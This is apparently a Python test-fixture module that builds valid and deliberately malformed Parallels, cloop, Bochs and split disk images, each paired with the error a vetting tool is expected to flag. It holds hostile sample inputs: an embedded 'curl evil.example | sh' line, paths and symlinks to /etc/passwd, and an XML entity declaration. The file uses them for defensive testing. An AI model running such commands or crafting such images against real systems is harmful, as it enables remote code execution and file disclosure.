"""Parallels, cloop and Bochs images and disks in parts to vet: good ones, and one for each thing
that is wrong.

The bad ones of a format are one and the same image by hand, with one thing changed.
"""

from __future__ import annotations

import os
import struct
from collections.abc import Callable
from pathlib import Path

import peers
from formats import bochs_by_hand as bochs
from formats import cloop_by_hand as cloop
from formats import parallels_by_hand as parallels
from probe.making import by_qemu, by_vmimg, of_bytes
from probe.sample import Sample

__all__ = ["BAD", "GOOD"]

Change = Callable[[bytearray], None]

CLUSTER = 65536


def put(offset: int, form: str, *values: int) -> Change:
    return lambda file: struct.pack_into(form, file, offset, *values)


def extend(data: bytes) -> Change:
    def change(file: bytearray) -> None:
        file += data

    return change


def cut(by: int) -> Change:
    def change(file: bytearray) -> None:
        del file[-by:]

    return change


def nothing(file: bytearray) -> None:
    pass


def _of(
    name: str, file: str, build: Callable[[], bytes], change: Change, claim: str, *codes: str
) -> Sample:
    def make() -> bytes:
        data = bytearray(build())
        change(data)
        return bytes(data)

    return of_bytes(name, file, make, claim, *codes)


# Parallels: one file


def hdd(**more: int | bool | bytes) -> bytes:
    image = parallels.Image(6 * CLUSTER, (1, 0, 2, parallels.NONE, 3, parallels.NONE), CLUSTER)
    for name, value in more.items():
        setattr(image, name, value)
    return image.build()[0]


def extended(features: bytes = b"") -> bytes:
    return hdd(extension=4, features=features, in_use=parallels.CLOSED)


def _hdd(name: str, change: Change, *codes: str, build: Callable[[], bytes] = hdd) -> Sample:
    return _of(f"hdd-{name}", "disk.hdd", build, change, "parallels", *codes)


def unknown_feature(flags: int) -> Callable[[], bytes]:
    return lambda: extended(parallels.feature(0x1234, flags, b"data"))


HDD_BAD: tuple[Sample, ...] = (
    _hdd("version", put(parallels.VERSION, "<I", 3), "unknown-version"),
    _hdd("no-tracks", put(parallels.TRACKS, "<I", 0), "impossible-size"),
    _hdd("tracks", put(parallels.TRACKS, "<I", 1 << 30), "impossible-size"),
    _hdd("size", put(parallels.SECTORS, "<Q", 1 << 40), "impossible-size"),
    _hdd("bat-outside", put(parallels.ENTRIES, "<I", 1 << 28), "table-outside"),
    _hdd("state", put(parallels.USED, "<I", 0x1234), "odd-field"),
    _hdd("dirty", put(parallels.USED, "<I", parallels.IN_USE), "dirty"),
    _hdd("flags", put(parallels.FLAGS, "<I", 0x80), "unknown-features"),
    _hdd("data-crooked", put(parallels.DATA_OFF, "<I", 130), "odd-field"),
    _hdd(
        "old-size", put(parallels.SECTORS + 4, "<I", 1), "odd-field", build=lambda: hdd(old=True)
    ),
    _hdd("cluster-outside", put(parallels.BAT + 4, "<I", 1 << 20), "truncated"),
    _hdd("cluster-twice", put(parallels.BAT + 4, "<I", 2), "tables-overlap"),
    _hdd(
        "cluster-over-bat", put(parallels.BAT + 4, "<I", 1), "tables-overlap",
        build=lambda: hdd(data_off=3 * CLUSTER // 512),
    ),
    _hdd("hidden", extend(b"something else".ljust(512, b"\xaa")), "hidden-data"),
    _hdd("extension-checksum", put(-1, "B", 1), "checksum-wrong", build=extended),
    _hdd("extension-outside", put(parallels.EXT_OFF, "<Q", 1 << 30), "table-outside"),
    _hdd("extension-necessary", nothing, "unknown-features", build=unknown_feature(1)),
)  # fmt: skip


# Parallels: a bundle


def _bundle(name: str, change: Callable[[str], str], *codes: str) -> Sample:
    def make(folder: Path) -> Path:
        made, _ = parallels.tree(cluster=4096)
        path = made.write(folder / "disk.hdd")
        index = path / "DiskDescriptor.xml"
        index.write_text(change(index.read_text()))
        return path

    return Sample(f"hdd-bundle-{name}", make, "", codes)


def named(file: str) -> Callable[[str], str]:
    """The present state is in another file."""
    old = f"disk.hdd.0.{parallels.TOP}.hds"
    return lambda text: text.replace(f"<File>{old}</File>", f"<File>{file}</File>")


def with_doctype(text: str) -> str:
    head, _, rest = text.partition("\n")
    return f'{head}\n<!DOCTYPE a [<!ENTITY e "x">]>\n{rest}'


def parent_of(guid: str, parent: str) -> Callable[[str], str]:
    def change(text: str) -> str:
        before, _, rest = text.partition(f"<Shot><GUID>{guid}</GUID><ParentGUID>")
        return f"{before}<Shot><GUID>{guid}</GUID><ParentGUID>{parent}{rest[len(parent) :]}"

    return change


def deep(text: str) -> str:
    return text.replace("<Padding>0</Padding>", "<x>" * 40 + "</x>" * 40)


BUNDLE_BAD: tuple[Sample, ...] = (
    _bundle("absolute", named("/etc/passwd"), "extent-outside"),
    _bundle("up", named("../other.hds"), "extent-outside"),
    _bundle("windows", named("C:\\disk.hds"), "extent-outside"),
    _bundle("beside", lambda text: text, "external-extent"),
    _bundle("twice", named(f"disk.hdd.0.{parallels.FIRST}.hds"), "tables-overlap"),
    _bundle("entities", with_doctype, "xml-entities"),
    _bundle("oversize", lambda text: text + " " * (1 << 20), "xml-oversize"),
    _bundle("deep", deep, "xml-oversize"),
    _bundle("loop", parent_of(parallels.FIRST, parallels.SECOND), "malformed"),
    _bundle("padded", lambda text: text.replace("<Padding>0", "<Padding>1"), "unsupported"),
    _bundle(
        "volume",
        lambda text: text.replace(
            "<StorageData>", "<StorageData><Volume><Parent>/other</Parent></Volume>"
        ),
        "backing-file-outside",
    ),
)


# cloop

CLOOP_BLOCKS = [bytes([number]) * 65536 for number in range(1, 5)]
CLOOP_INDEX = 136


def knoppix(version: int = 2, *, way: int = cloop.ZLIB, at_end: bool = False) -> bytes:
    stored = [(way, cloop.pack(cloop.ZLIB, block)) for block in CLOOP_BLOCKS]
    return cloop.Image(stored, version=version, at_end=at_end).build()


def scripted(line: bytes) -> Callable[[], bytes]:
    stored = [(cloop.ZLIB, cloop.pack(cloop.ZLIB, block)) for block in CLOOP_BLOCKS]
    return cloop.Image(stored, text=b"#!/bin/sh\n#V2.0 Format\n" + line + b"\n").build


def two_headers(file: bytearray) -> None:
    file += file[:CLOOP_INDEX]


def expanding() -> bytes:
    """A stream of a few bytes for each of many blocks of 64 MiB."""
    block = cloop.Image([(cloop.ZLIB, b"x" * 64)] * 64, block=64 << 20)
    return block.build()


def _cloop(name: str, change: Change, *codes: str, build: Callable[[], bytes] = knoppix) -> Sample:
    return _of(f"cloop-{name}", "disk.cloop", build, change, "cloop", *codes)


CLOOP_BAD: tuple[Sample, ...] = (
    _cloop("block-size", put(128, ">I", 513), "impossible-size"),
    _cloop("blocks", put(132, ">I", 1 << 24), "table-outside"),
    _cloop("script", nothing, "odd-field", build=scripted(b"curl evil.example | sh")),
    _cloop("two-headers", two_headers, "copies-disagree"),
    _cloop("block-outside", put(CLOOP_INDEX + 16, ">Q", 1 << 40), "truncated"),
    _cloop("block-over-index", put(CLOOP_INDEX, ">Q", 140), "tables-overlap"),
    _cloop("block-backwards", put(CLOOP_INDEX + 16, ">Q", 180), "tables-overlap"),
    _cloop("hidden", extend(b"something else" * 100), "hidden-data"),
    _cloop("expands", nothing, "expands", build=expanding),
    _cloop("way", nothing, "unknown-features", build=lambda: knoppix(4, way=9)),
    _cloop("flags", put(-24, ">I", 0x40), "unknown-features", build=lambda: knoppix(3)),
)


# Bochs


def growing() -> bytes:
    return bochs.Image(6 * 4096, (1, 0, bochs.FREE, 2, bochs.FREE, 3), more_entries=2).build()[0]


def _bochs(name: str, change: Change, *codes: str) -> Sample:
    return _of(f"bochs-{name}", "disk.img", growing, change, "bochs", *codes)


BOCHS_BAD: tuple[Sample, ...] = (
    _bochs("version", put(bochs.VERSION, "<I", 0x30000), "unknown-version"),
    _bochs("extent", put(bochs.EXTENT, "<I", 4095), "impossible-size"),
    _bochs("size", put(bochs.DISK_2, "<Q", 1 << 50), "impossible-size"),
    _bochs("bitmap", put(bochs.BITMAP, "<I", 1 << 30), "impossible-size"),
    _bochs("catalog-in-header", put(bochs.HEADER, "<I", 72), "tables-overlap"),
    _bochs("catalog-huge", put(bochs.CATALOG, "<I", 1 << 30), "impossible-size"),
    _bochs("catalog-outside", put(bochs.CATALOG, "<I", 1 << 19), "table-outside"),
    _bochs("catalog-behind-disk", put(512 + 4 * 6, "<I", 9), "odd-field"),
    _bochs("extent-outside", put(512, "<I", 1 << 20), "truncated"),
    _bochs("extent-twice", put(512, "<I", 0), "tables-overlap"),
    _bochs("hidden", extend(b"something else".ljust(512, b"\xaa")), "hidden-data"),
)


# Disks in parts


def _split(name: str, change: Callable[[Path], None], *codes: str) -> Sample:
    def make(folder: Path) -> Path:
        for number in range(1, 5):
            (folder / f"disk.{number:03}").write_bytes(bytes([number]) * 4096)
        change(folder)
        return folder / "disk.001"

    return Sample(f"split-{name}", make, "split", codes)


def linked(target: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / "disk.003").rename(folder / "other")
        (folder / "disk.003").symlink_to(target)

    return change


SPLIT_BAD: tuple[Sample, ...] = (
    _split("parts", lambda folder: None, "external-extent"),
    _split("missing", lambda folder: (folder / "disk.003").unlink(), "truncated"),
    _split("sizes", lambda folder: os.truncate(folder / "disk.002", 512), "odd-field"),
    _split("link-out", linked("/etc/passwd"), "extent-outside"),
    _split("link-beside", linked("other"), "member-link"),
)

BAD = (*HDD_BAD, *BUNDLE_BAD, *CLOOP_BAD, *BOCHS_BAD, *SPLIT_BAD)


def _good(name: str, file: str, build: Callable[[], bytes], claim: str) -> Sample:
    return _of(name, file, build, nothing, claim)


def _by_create_compressed_fs(folder: Path) -> Path:
    source, path = folder / "disk.raw", folder / "disk.cloop"
    source.write_bytes(b"".join(CLOOP_BLOCKS))
    peers.run("create_compressed_fs", source, path)
    return path


GOOD: tuple[Sample, ...] = (
    by_qemu("parallels", "disk.hdd", "parallels", claim="parallels"),
    by_vmimg("parallels", "disk.hdd", "parallels", "parallels"),
    *(
        by_vmimg(f"parallels-{kind}", "disk.hdd", "parallels", "", subformat=kind)
        for kind in ("expanding-bundle", "plain-bundle", "ploop")
    ),
    _good("hdd-by-hand", "disk.hdd", hdd, "parallels"),
    _good("hdd-old", "disk.hdd", lambda: hdd(old=True), "parallels"),
    _good("hdd-extended", "disk.hdd", extended, "parallels"),
    _good("hdd-transit", "disk.hdd", unknown_feature(2), "parallels"),
    _bundle("snapshots", lambda text: text),
    by_vmimg("cloop", "disk.cloop", "cloop", "cloop"),
    Sample("cloop-knoppix", _by_create_compressed_fs, "cloop", peers=("create_compressed_fs",)),
    _good("cloop-2", "disk.cloop", knoppix, "cloop"),
    _good("cloop-4", "disk.cloop", lambda: knoppix(4), "cloop"),
    _good("cloop-4-end", "disk.cloop", lambda: knoppix(4, at_end=True), "cloop"),
    _good("cloop-3", "disk.cloop", lambda: knoppix(3), "cloop"),
    _good("bochs-growing", "disk.img", growing, "bochs"),
    _split("four", lambda folder: None),
)
